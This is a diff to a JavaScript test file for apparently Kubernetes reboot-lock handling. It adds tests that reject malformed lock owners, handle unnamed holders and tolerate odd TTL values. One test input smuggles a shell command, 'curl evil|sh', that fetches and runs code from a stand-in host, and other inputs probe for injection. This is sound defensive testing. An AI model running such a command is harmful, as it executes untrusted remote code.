@@ -22,8 +22,21 @@ test('a lock of a run has the fields of both shapes of kured, and a time in nano
 })
 
 test('no node can have the name under which a run holds the lock', () => {
-  assert.doesNotMatch(lockOwner(RUN), /^[a-z0-9]([a-z0-9.-]*[a-z0-9])?$/)
+  assert.doesNotMatch(lockOwner('0001'), /^[a-z0-9]([a-z0-9.-]*[a-z0-9])?$/)
   assert.deepEqual([runOfLock(lockOwner(RUN)), runOfLock('n1'), runOfLock('evenkeel-1')], [RUN, undefined, undefined])
+})
+
+test('an owner of the lock that cannot be the name of a run becomes no part of a command', () => {
+  for (const owner of ['evenkeel/', 'evenkeel/x; curl evil|sh #', 'evenkeel/x\ny', 'evenkeel/-x', 'evenkeel/$(x)'])
+    assert.equal(runOfLock(owner), undefined, owner)
+})
+
+test('a lock that names no holder is held by a node that is not known', () => {
+  const UNNAMED = ['{"nodeId":"manual"}', '{}', 'null', '', '{"nodeID":""}', '{"nodeID":null,"TTL":1}', '[]', '7']
+  const IN_LISTS = ['{"locks":[{}]}', '{"locks":[{"nodeID":"n1"},{"nodeId":"n2"}]}', '{"locks":[null]}', '{"Locks":[]}']
+  for (const text of [...UNNAMED, ...IN_LISTS]) assert.equal(lockHoldings(text), undefined, text)
+  const FREE = ['{"maxOwners":2,"locks":[]}', '{"maxOwners":2,"locks":null}']
+  for (const text of FREE) assert.deepEqual(lockHoldings(text), [], text)
 })
 
 test('when a lock ends is read from it alone', () => {
@@ -34,6 +47,8 @@ test('when a lock ends is read from it alone', () => {
   assert.deepEqual(ends(-1), [['n1', undefined]])
   assert.deepEqual(ends(60e9, 'never'), [['n1', undefined]])
   assert.equal(ends(60e9, 7), undefined)
+  for (const TTL of [{ valueOf: 1, toString: 1 }, '1', [1], true, null])
+    assert.deepEqual(ends(TTL), [['n1', undefined]], JSON.stringify(TTL))
 })
 
 const ours = JSON.parse(newLock({ run: RUN, wall: AT, concurrency: 1 }))
